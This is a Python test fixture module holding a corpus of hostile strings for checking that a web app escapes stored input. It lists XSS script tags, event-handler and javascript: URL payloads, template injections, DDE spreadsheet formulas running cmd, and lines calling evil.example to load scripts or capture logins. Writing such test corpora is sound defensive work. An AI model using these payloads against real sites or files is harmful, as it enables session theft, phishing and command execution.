"""Hostile strings for the stored-script corpus (tests/test_security_corpus.py).

Each one is something a student, a teacher or an imported document could type into a field.
Markup in them that would survive into a page carries "pwn" (a class, an id, an attribute or
a tag name), so that a test can tell an element that came from a payload from the app's own.
No NUL: PostgreSQL refuses it in text, and the forms strip it.
"""

SCRIPT_TAGS = [
    "<script>alert('pwn')</script>",
    "<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT><b class=pwn>",
    "<script/src=data:,alert('pwn')></script>",
    "<<script>alert('pwn');//<</script>",
    "<script\n>alert('pwn')</script\n>",
    "\"><script>alert('pwn')</script>",
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>alert('pwn')</script>",
    "<scr<script>ipt>alert('pwn')</scr</script>ipt>",
]

EVENT_ATTRIBUTES = [
    "\" onmouseover=\"alert('pwn')",
    "' autofocus onfocus='alert(1)' data-pwn='",
    '" autofocus onfocus=alert(1) x="',
    "<img src=x onerror=alert('pwn')>",
    "<body onload=alert('pwn')>",
    '<div id=pwn style="background:url(javascript:alert(1))">',
    "<input autofocus onfocus=alert('pwn')>",
    "<details open ontoggle=alert('pwn')>",
    '<a href="#" onclick="alert(\'pwn\')">click</a>',
    "` onmouseover=alert('pwn') `",
]

URLS = [
    "javascript:alert('pwn')",
    "JaVaScRiPt:alert(document.cookie)",
    "  javascript:alert('pwn')",
    "<a href=\"javascript:alert('pwn')\">read more</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduJyk8L3NjcmlwdD4=",
    "<a href='data:text/html,<script>alert(1)</script>'>pwn</a>",
    "<iframe src=\"javascript:alert('pwn')\"></iframe>",
    '<object data="data:text/html,pwn"></object>',
    '<base href="//evil.example/pwn/">',
    '<form action="//evil.example/pwn"><button>Log in</button></form>',
]

SVG_AND_MATHML = [
    "<svg onload=alert('pwn')>",
    "<svg><script>alert('pwn')</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>pwn</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwn')>",
    '<math href="javascript:alert(1)">pwn</math>',
]

BREAKING_OUT = [
    "</textarea><script>alert('pwn')</script>",
    "</title><script>alert('pwn')</script>",
    "</style><b class=pwn>",
    "<!-- <b class=pwn> -->",
    "<![CDATA[<b class=pwn>]]>",
    "<b class=pwn>unclosed bold",
    "<div><p>broken <i>markup</div></b></span><b class=pwn>",
    "&lt;script&gt;alert('pwn')&lt;/script&gt;",
    "&#60;script&#62;alert('pwn')&#60;/script&#62;",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'pwn\')">',
]

TEMPLATE_SYNTAX = [
    "{{ request.user.password }}",
    "{% csrf_token %}{% debug %}",
    "{{ 7*7 }} ${7*7} #{7*7}",
    "[click me](javascript:alert('pwn'))",
    '![pwn](x" onerror="alert(1))',
]

SPREADSHEET_FORMULAS = [
    '=HYPERLINK("http://evil.example/pwn","Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

UNICODE = [
    "Tom \u202eevil.exe\u202c Smith",
    "Zero\u200bwidth\u200c joiner\u200d and BOM\ufeff",
    "control chars \x01\x02\x07\x08\x0b\x0c\x1b[31m red \x7f",
    "emoji \U0001f600 \U0001f9d1\u200d\U0001f3eb flags \U0001f1ec\U0001f1e7",
    "combining Z\u0351\u0337\u0322\u0335a\u0352\u0334lgo\u0361\u035c",
    "Ｆｕｌｌｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞",
    "\u2028line separator\u2029paragraph separator",
]

LONG = [
    "A" * 10_000,
    ("<b class=pwn>" * 800)[:10_000],
]

HOSTILE_STRINGS = (
    SCRIPT_TAGS
    + EVENT_ATTRIBUTES
    + URLS
    + SVG_AND_MATHML
    + BREAKING_OUT
    + TEMPLATE_SYNTAX
    + SPREADSHEET_FORMULAS
    + UNICODE
    + LONG
)
